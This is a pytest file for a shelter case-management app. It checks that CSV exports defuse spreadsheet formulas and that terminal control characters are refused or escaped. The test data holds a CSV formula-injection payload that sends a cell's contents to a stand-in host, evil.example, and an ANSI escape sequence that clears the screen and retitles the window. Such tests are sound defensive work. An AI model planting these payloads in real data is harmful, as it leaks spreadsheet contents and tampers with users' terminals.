"""Safe CSV and terminals: formulas written inert, control characters refused and never printed."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shelterdesk.domain.clients import Case, Client
from shelterdesk.domain.errors import ValidationFailed
from shelterdesk.domain.referrals import Organisation
from shelterdesk.domain.validation import control_character, printable
from shelterdesk.reports.csv_cells import FORMULA_STARTS, neutralise
from shelterdesk.reports.statistics.exports import render
from shelterdesk.store.keys import users
from shelterdesk.store.records import clients, importer, organisations
from shelterdesk.store.statistics.aggregates import Period
from tests.cli_helpers import run_cli
from tests.conftest import ADMIN, ADMIN_PASSPHRASE
from tests.statistics_helpers import Q1, FragmentTranslator
from tests.test_import import HEADER, write

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
ESCAPE = "Aynur\x1b[2J\x1b]0;pwned\x07"


def test_an_organisation_named_as_a_formula_is_written_inert(admin_session) -> None:
    admin_session.connection.execute("UPDATE meta SET value = ? WHERE key = 'org_name'",
                                     (HYPERLINK,))
    clients.create_intake(admin_session, Client("Ad", "Soyad", sex="female", age_estimate=30),
                          Case(date(2026, 1, 5), ["sexual"], victim_status="presumed",
                               risk_level="medium"))
    for excel in (False, True):
        data, _k, _ = render(admin_session, Q1, "csv", FragmentTranslator("az"), excel=excel)
        text = data.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text), delimiter=";" if excel else ","))
        organisation = next(r for r in rows if r[2] == "organisation")[-1]
        assert organisation == "'" + HYPERLINK
        for row in rows:
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS) or cell.lstrip("-").isdigit(), cell
    # Excel in az and ru: semicolons and decimal commas
    data, _k, _ = render(admin_session, Period(date(2026, 1, 1), date(2026, 2, 1)), "csv",
                         FragmentTranslator("ru"), excel=True)
    first = data.decode("utf-8-sig").splitlines()[0]
    assert first.count(";") == 6 and "," not in first


@given(st.text())
def test_no_cell_starts_a_formula(text: str) -> None:
    cell = neutralise(text)
    assert cell == text or cell == "'" + text
    if cell.startswith(FORMULA_STARTS):
        assert cell.lstrip("-").replace(".", "").replace(",", "").isdigit()


def test_control_characters_are_refused_in_records(admin_session) -> None:
    with pytest.raises(ValidationFailed) as refused:
        clients.create_intake(admin_session, Client(ESCAPE, "Soyad"), Case(date(2026, 1, 5)))
    assert "Given name" in str(refused.value) and "U+001B" in str(refused.value)
    with pytest.raises(ValidationFailed):
        organisations.add_organisation(admin_session,
                                       Organisation("Polis\u202egnp", "state", ["legal"]))
    with pytest.raises(ValidationFailed):
        users.add_user(admin_session, "leyla", [], "a long enough passphrase",
                       display_name="Leyla\x9b31m")
    # a line break in a free text is text, not a control
    clients.create_intake(admin_session, Client("Aynur", "Soyad"),
                          Case(date(2026, 1, 5), needs_summary="one\ntwo\r\nthree\tfour",
                               victim_status="presumed", risk_level="medium"))
    assert control_character("a\rb") == "U+000D" and control_character("a\r\nb") is None
    assert printable(ESCAPE) == "Aynur\\x1b[2J\\x1b]0;pwned\\x07"


def test_the_import_refuses_control_characters(admin_session, tmp_path: Path) -> None:
    row = f"{ESCAPE},Soyad,female,,30,AZ,,2026-03-01,sexual,dating_app,tinder,,presumed,high\n"
    good = "Elvin,Əliyev,male,,,AZ,,2026-03-03,forced_labour,acquaintance,,,presumed,low\n"
    with pytest.raises(importer.ImportFailed) as refused:
        importer.import_csv(admin_session, write(tmp_path, [good, row], HEADER))
    assert "U+001B" in str([importer.describe(p) for p in refused.value.problems])
    assert admin_session.connection.execute("SELECT count(*) FROM cases").fetchone()[0] == 0


def test_the_command_line_refuses_and_never_prints_control_characters(tmp_path: Path) -> None:
    data = str(tmp_path / "data")
    assert run_cli("init", "--admin", ADMIN, "--org-name", "Təmiz Həyat", "--data-dir", data,
                   passphrase=ADMIN_PASSPHRASE).returncode == 0
    refused = run_cli("org", "add", "--name", "Polis\x1b[31m", "--kind", "state",
                      "--data-dir", data, "--user", ADMIN, passphrase=ADMIN_PASSPHRASE)
    assert refused.returncode == 1 and "U+001B" in refused.stderr
    assert "\x1b" not in refused.stderr + refused.stdout and "Traceback" not in refused.stderr
    path = write(tmp_path, [f"{ESCAPE},Soyad,female,,30,AZ,,2026-03-01,sexual,,,,presumed,low\n"],
                 HEADER)
    failed = run_cli("import", str(path), "--data-dir", data, "--user", ADMIN,
                     passphrase=ADMIN_PASSPHRASE)
    assert failed.returncode != 0 and "\x1b" not in failed.stderr + failed.stdout
    # a name stored before this check (or by an older version) is printed escaped
    good = write(tmp_path, ["Aynur,Soyad,female,,30,AZ,,2026-03-01,sexual,,,,presumed,low\n"],
                 HEADER)
    assert run_cli("import", str(good), "--data-dir", data, "--user", ADMIN,
                   passphrase=ADMIN_PASSPHRASE).returncode == 0
    from shelterdesk.store.vault import Vault

    with Vault(Path(data)).unlock(ADMIN, ADMIN_PASSPHRASE) as session:
        session.connection.execute("UPDATE clients SET given_name = ?", (ESCAPE + "\x9b",))
    listed = run_cli("cases", "list", "--data-dir", data, "--user", ADMIN,
                     passphrase=ADMIN_PASSPHRASE)
    assert listed.returncode == 0 and "\x1b" not in listed.stdout and "\x9b" not in listed.stdout
    as_json = run_cli("cases", "list", "--json", "--data-dir", data, "--user", ADMIN,
                      passphrase=ADMIN_PASSPHRASE)
    assert "\x1b" not in as_json.stdout and "\x9b" not in as_json.stdout
    assert json.loads(as_json.stdout)[0]["given_name"] == ESCAPE + "\x9b"  # escaped, not lost


def test_the_intake_form_refuses_a_control_character(qtbot, vault, admin_session) -> None:
    from PySide6.QtWidgets import QApplication

    from shelterdesk.ui.cases.intake_dialog import IntakeDialog
    from tests.cases_helpers import cases_page, newest, type_text
    from tests.conftest import ADMIN, ADMIN_PASSPHRASE
    from tests.gui_helpers import make_window, unlock

    window = make_window(qtbot, vault)
    unlock(qtbot, window, ADMIN, ADMIN_PASSPHRASE)
    page = cases_page(qtbot, window)
    page.list_page.new_button.click()
    dialog = newest(page, IntakeDialog)
    field = dialog.fields["given_name"]
    type_text(field, "Aynur")
    # a keyboard cannot type an escape character; a paste can bring one
    QApplication.clipboard().setText("\x1b[2J")
    field.setFocus()
    field.paste()
    assert "\x1b" in field.text()
    assert not dialog.save_button.isEnabled()
    assert "control character (U+001B)" in dialog.problem_labels["given_name"].text()
    field.clear()
    type_text(field, "Aynur")
    assert "control character" not in dialog.problem_labels["given_name"].text()
    dialog.discard_and_close()
    window.close()
